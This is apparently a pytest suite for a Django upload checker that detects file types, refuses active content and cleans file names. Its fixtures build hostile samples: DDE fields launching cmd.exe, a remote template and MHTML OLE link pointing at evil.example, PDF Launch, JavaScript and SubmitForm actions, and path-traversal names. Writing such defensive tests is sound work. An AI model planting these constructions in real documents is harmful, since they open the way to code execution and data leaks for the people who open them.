"""The one check every upload goes through: the type from the content, active content refused
with a message naming it, and the name a file is kept and downloaded under. Every file here is
a real one, built in the test: a Word document from python-docx with a member added, a PDF
whose objects are written by hand or by pyHanko's writer."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tinhso.core import uploads
from tinhso.core.documents import DOCX, PDF, XLSX
from tinhso.core.errors import DomainError

EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + (b"\x00" * 64)
    + b"PE\x00\x00"
    + b"\x00" * 200
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- real files --------------------------------------------------------------------------------


def docx() -> bytes:
    from docx import Document

    document = Document()
    document.add_paragraph("Đơn đề nghị")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "Bảng kê"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def platform_docx() -> bytes:
    """A Word document as the platform writes its own (Decree 30 layout, a PAGE field)."""
    from tinhso.core.documents import new_document

    document = new_document()
    document.add_paragraph("Phiếu tiếp nhận")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_body(body: str) -> bytes:
    """A python-docx document whose body is ``body`` (WordprocessingML)."""
    source = zipfile.ZipFile(io.BytesIO(docx()))
    xml = source.read("word/document.xml").decode()
    start, end = xml.index("<w:body>") + len("<w:body>"), xml.index("<w:sectPr")
    return with_members(docx(), {"word/document.xml": xml[:start] + body + xml[end:]})


def run(text: str, tag: str = "w:t") -> str:
    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'


def field_char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def with_members(package: bytes, members: dict[str, bytes | str]) -> bytes:
    """``package`` with ``members`` added (or replacing those of the same name)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename not in members:
                archive.writestr(info, source.read(info))
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def encrypted(package: bytes) -> bytes:
    """``package`` with every member marked encrypted (general purpose flag bit 0), in the local
    headers and the central directory, as a password-protecting zip tool writes them."""
    data = bytearray(package)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + flag_at] |= 0x1
            start = data.find(signature, start + 4)
    return bytes(data)


def rels(*relations: tuple[str, str, str | None]) -> str:
    body = "".join(
        f'<Relationship Id="rId{index}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for index, (kind, target, mode) in enumerate(relations, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    )


def raw_pdf(*, catalog: str = "", page: str = "", extra: tuple[str, ...] = ()) -> bytes:
    """A PDF written object by object with a correct cross-reference table: what a PDF
    reader parses, whatever the bytes of the names look like."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
        *extra,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return out


def pyhanko_pdf(
    *,
    open_action: dict[str, str] | None = None,
    compressed: bool = False,
    user_password: str | None = None,
    owner_password: str | None = None,
) -> bytes:
    """A PDF written by pyHanko; ``compressed`` puts the open action in a compressed object
    stream, where no byte search finds it."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

    name = generic.pdf_name
    writer = PdfFileWriter(stream_xrefs=compressed)
    stream = generic.StreamObject(stream_data=b"BT 72 760 Td (Giay to) Tj ET")
    writer.insert_page(
        PageObject(
            contents=writer.add_object(stream),
            media_box=generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
        )
    )
    if open_action is not None:
        action = generic.DictionaryObject(
            {
                name(key): name(value) if value.startswith("/") else generic.pdf_string(value)
                for key, value in open_action.items()
            }
        )
        holder = writer.prepare_object_stream() if compressed else None
        writer.root[name("/OpenAction")] = writer.add_object(action, obj_stream=holder)
        writer.update_root()
    if owner_password is not None:
        writer.encrypt(owner_password, user_password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def check(data: bytes, name: str = "tep.bin") -> uploads.Inspected:
    return uploads.inspect_upload(SimpleUploadedFile(name, data))


def refused(data: bytes, name: str = "tep.bin") -> DomainError:
    with pytest.raises(DomainError) as caught:
        check(data, name)
    assert caught.value.field == "file"
    assert caught.value.status_code == 400
    return caught.value


# --- what is accepted ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda: raw_pdf(), PDF),
        (lambda: pyhanko_pdf(), PDF),
        (lambda: pyhanko_pdf(compressed=True), PDF),
        (lambda: pyhanko_pdf(open_action={"/S": "/GoTo", "/D": "(trang-1)"}), PDF),  # opens at a page: no code
        # Printing restricted by an owner password: opens without one.
        (lambda: pyhanko_pdf(owner_password="chu-so-huu", user_password=""), PDF),
        (
            lambda: raw_pdf(
                page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                "/A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>]"
            ),
            PDF,
        ),
        (png, uploads.PNG),
        (docx, DOCX),
        (xlsx, XLSX),
        (
            lambda: with_members(
                docx(),
                {
                    "word/media/image1.png": png(),
                    "word/_rels/document.xml.rels": rels(
                        ("image", "media/image1.png", None), ("hyperlink", "https://dichvucong.gov.vn/", "External")
                    ),
                },
            ),
            DOCX,
        ),
        (lambda: with_members(xlsx(), {"xl/printerSettings/printerSettings1.bin": b"\x00" * 64}), XLSX),
        (lambda: with_members(docx(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()}), DOCX),  # a chart
        (platform_docx, DOCX),
        (
            lambda: docx_body(
                "<w:p>"
                + field_char("begin")
                + run(" PAGE ", "w:instrText")
                + field_char("separate")
                + run("1")
                + field_char("end")
                + "</w:p>"
            ),
            DOCX,
        ),
    ],
)
def test_plain_documents_are_accepted_with_the_type_of_their_content(make: Callable[[], bytes], expected: str) -> None:
    data = make()
    inspected = check(data, "payload.exe")
    assert inspected.content_type == expected
    assert inspected.extension == uploads.ALLOWED_TYPES[expected]
    assert inspected.size == len(data)


PROGRAM = "chương trình hoặc đối tượng nhúng "


# --- Word and Excel with active content ------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "code", "named"),
    [
        # An executable under a picture's name, an executable and a script as members of their own.
        (lambda: with_members(docx(), {"word/media/image9.png": EXE}), "active_content", "word/media/image9.png"),
        (
            lambda: with_members(docx(), {"word/embeddings/setup.exe": EXE}),
            "active_content",
            "word/embeddings/setup.exe",
        ),
        (lambda: with_members(docx(), {"word/payload.dll": EXE}), "active_content", PROGRAM + "“word/payload.dll”"),
        (lambda: with_members(docx(), {"word/evil.js": "WScript.Shell"}), "active_content", PROGRAM + "“word/evil.js”"),
        (lambda: with_members(xlsx(), {"xl/run.vbs": "CreateObject"}), "active_content", PROGRAM + "“xl/run.vbs”"),
        (lambda: with_members(docx(), {"Autorun.exe": EXE}), "active_content", PROGRAM + "“Autorun.exe”"),
        # OLE objects and ActiveX controls, macros whatever their part is called.
        (lambda: with_members(docx(), {"word/embeddings/oleObject1.bin": OLE}), "active_content", "oleObject1.bin"),
        (lambda: with_members(xlsx(), {"xl/activeX/activeX1.xml": "<ax/>"}), "active_content", "activeX1.xml"),
        (lambda: with_members(docx(), {"word/vbaProject.bin": OLE}), "active_content", "macro"),
        (
            lambda: with_members(xlsx(), {"xl/printerSettings/printerSettings1.bin": OLE}),
            "active_content",
            "printerSettings1.bin",
        ),
        (
            lambda: with_members(
                xlsx(),
                {
                    "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(xlsx()))
                    .read("[Content_Types].xml")
                    .replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
                    .replace(
                        b"application/vnd.openxmlformats-officedocument.sheet.macroEnabled",
                        b"application/vnd.ms-excel.sheet.macroEnabled",
                    )
                },
            ),
            "active_content",
            "macro",
        ),
        # An embedded workbook is checked as well: one with macros inside a Word file is refused.
        (
            lambda: with_members(
                docx(), {"word/embeddings/Book1.xlsx": with_members(xlsx(), {"xl/vbaProject.bin": OLE})}
            ),
            "active_content",
            "Book1.xlsx",
        ),
        # Remote template injection, an OLE object fetched through MHTML (CVE-2022-30190), Excel DDE.
        (
            lambda: with_members(
                docx(),
                {
                    "word/_rels/settings.xml.rels": rels(
                        ("attachedTemplate", "http://evil.example/mau.dotm", "External")
                    )
                },
            ),
            "active_content",
            "mau.dotm",
        ),
        (
            lambda: with_members(
                docx(),
                {
                    "word/_rels/document.xml.rels": rels(
                        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", "External")
                    )
                },
            ),
            "active_content",
            "mhtml:",
        ),
        (
            lambda: with_members(
                xlsx(),
                {
                    "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                },
            ),
            "active_content",
            "externalLink1.xml",
        ),
        # DDE fields run a command when Word updates them, whole or split over runs and paragraphs.
        (
            lambda: docx_body(
                '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ">'
                + run("x")
                + "</w:fldSimple></w:p>"
            ),
            "active_content",
            "word/document.xml",
        ),
        (
            lambda: docx_body(
                "<w:p>"
                + field_char("begin")
                + run(" D", "w:instrText")
                + "</w:p><w:p>"
                + run("DEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "w:instrText")
                + field_char("separate")
                + run("x")
                + field_char("end")
                + "</w:p>"
            ),
            "active_content",
            "word/document.xml",
        ),
        # Encrypted members, and a zip that unpacks to far more than a document does.
        (lambda: encrypted(docx()), "encrypted", "mật khẩu"),
        (lambda: with_members(docx(), {"../../evil.xml": "<x/>"}), "active_content", "thành phần lạ “../../evil.xml”"),
    ],
)
def test_office_files_with_active_content_are_refused_with_the_reason(
    make: Callable[[], bytes], code: str, named: str
) -> None:
    error = refused(make(), "don.docx")
    assert error.code == code
    assert named in error.message
    assert error.message.startswith("Tệp Word/Excel")


def test_a_zip_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "OFFICE_MAX_UNPACKED", 1024 * 1024)
    error = refused(with_members(docx(), {"word/media/image2.png": b"\x00" * (2 * 1024 * 1024)}))
    assert error.code == "too_large_unpacked"
    assert "giải nén quá lớn" in error.message


# --- PDF with active content -------------------------------------------------------------------------

JS = "mã JavaScript"


@pytest.mark.parametrize(
    ("make", "what"),
    [
        (lambda: pyhanko_pdf(open_action={"/S": "/JavaScript", "/JS": "app.alert(1)"}), JS),
        # The same action inside a compressed object stream: found by reading objects, not bytes.
        (lambda: pyhanko_pdf(open_action={"/S": "/JavaScript", "/JS": "app.alert(1)"}, compressed=True), JS),
        # Names written with #xx escapes, as a reader decodes them.
        (
            lambda: raw_pdf(
                catalog="/Names << /J#61vaScript << /Names [(a) 4 0 R] >> >>",
                extra=("<< /S /JavaScript /J#53 (app.alert(1)) >>",),
            ),
            JS,
        ),
        (
            lambda: raw_pdf(catalog="/OpenAction 4 0 R", extra=("<< /S /Launch /F (cmd.exe) >>",)),
            "lệnh mở tệp hoặc chương trình khác",
        ),
        (
            lambda: raw_pdf(
                catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                extra=(
                    "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                    "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                ),
            ),
            "tệp đính kèm nhúng bên trong",
        ),
        (lambda: raw_pdf(page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "hành động tự chạy"),
        (
            lambda: raw_pdf(
                catalog="/AcroForm << /Fields [] /XFA 4 0 R >>", extra=("<< /Length 0 >>\nstream\n\nendstream",)
            ),
            "biểu mẫu động XFA",
        ),
        (lambda: raw_pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "đa phương tiện"),
        (
            lambda: raw_pdf(
                page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                "/A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>]"
            ),
            JS,
        ),
        (
            lambda: raw_pdf(catalog="/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
            "gửi hoặc nhập dữ liệu",
        ),
        # A bookmark whose action chains (/Next) to JavaScript.
        (
            lambda: raw_pdf(
                catalog="/Outlines 4 0 R",
                extra=(
                    "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
                    "<< /Title (Muc 1) /Parent 4 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>",
                    "<< /S /JavaScript /JS 7 0 R >>",
                    "<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
                ),
            ),
            JS,
        ),
    ],
)
def test_pdfs_with_active_content_are_refused_with_the_reason(make: Callable[[], bytes], what: str) -> None:
    error = refused(make(), "to-khai.pdf")
    assert error.code == "active_content"
    assert error.message.startswith("Tệp PDF có ")
    assert what in error.message


def test_a_pdf_with_more_objects_than_can_be_checked_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
    error = refused(
        raw_pdf(
            page="/Annots [4 0 R 5 0 R]",
            extra=(
                "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >>",
                "<< /Type /Annot /Subtype /Text /Rect [9 9 18 18] >>",
            ),
        )
    )
    assert error.code == "too_complex"
    assert check(raw_pdf()).content_type == PDF  # three objects: within the limit


def test_the_compressed_case_really_hides_the_names_from_a_byte_search() -> None:
    data = pyhanko_pdf(open_action={"/S": "/JavaScript", "/JS": "app.alert(1)"}, compressed=True)
    assert b"/JavaScript" not in data
    assert b"/ObjStm" in data


def test_a_pdf_that_needs_a_password_or_cannot_be_read_is_refused() -> None:
    locked = refused(pyhanko_pdf(owner_password="chu", user_password="nguoi-doc"))
    assert (locked.code, locked.message) == (
        "encrypted",
        "Tệp PDF đang được đặt mật khẩu nên không mở được. Hãy gỡ mật khẩu rồi tải lên lại.",
    )
    for data in (b"%PDF-1.7\ngarbage", raw_pdf()[:-60]):
        assert refused(data).code == "bad_pdf"


# --- names -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("payload.exe", "pdf", "payload.pdf"),
        ("payload.pdf.exe", "pdf", "payload.pdf.pdf"),
        ("bao-cao.html", "docx", "bao-cao.docx"),
        ("Ảnh CCCD.JPEG", "jpg", "Ảnh CCCD.JPEG"),
        ("Biên bản v1.2", "pdf", "Biên bản v1.2.pdf"),
        ("C:\\Users\\An\\Giấy tờ\\to-khai.pdf", "pdf", "to-khai.pdf"),
        ('Đơn "An"; x.pdf', "pdf", "Đơn An x.pdf"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("a\x00b\r\nc.png", "png", "abc.png"),
        (".exe", "pdf", "exe.pdf"),
        ("", "xlsx", "tep.xlsx"),
        ("x" * 300 + ".pdf", "pdf", "x" * 251 + ".pdf"),  # 255 in all
    ],
)
def test_names_keep_the_users_base_name_and_take_the_detected_extension(
    name: str, extension: str, expected: str
) -> None:
    assert uploads.clean_filename(name, extension) == expected


def test_a_word_document_saved_by_libreoffice_is_accepted(tmp_path: Path) -> None:
    """The parts a real office suite writes (its own properties, header, numbering, a picture,
    custom XML) are those of a plain document."""
    import shutil

    from docx import Document

    from tinhso.core.documents import run_in_own_group

    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:
        pytest.skip("LibreOffice is not installed")
    document = Document(io.BytesIO(platform_docx()))
    document.add_picture(io.BytesIO(png()))
    document.save(str(tmp_path / "in.docx"))
    returncode, output = run_in_own_group(
        [
            binary,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            "--nolockcheck",
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            str(tmp_path / "out"),
            str(tmp_path / "in.docx"),
        ],
        timeout=120,
        cwd=tmp_path,
    )
    assert returncode == 0, output
    saved = (tmp_path / "out" / "in.docx").read_bytes()
    assert "word/media/image1.png" in zipfile.ZipFile(io.BytesIO(saved)).namelist()
    assert check(saved, "don.docx").content_type == DOCX
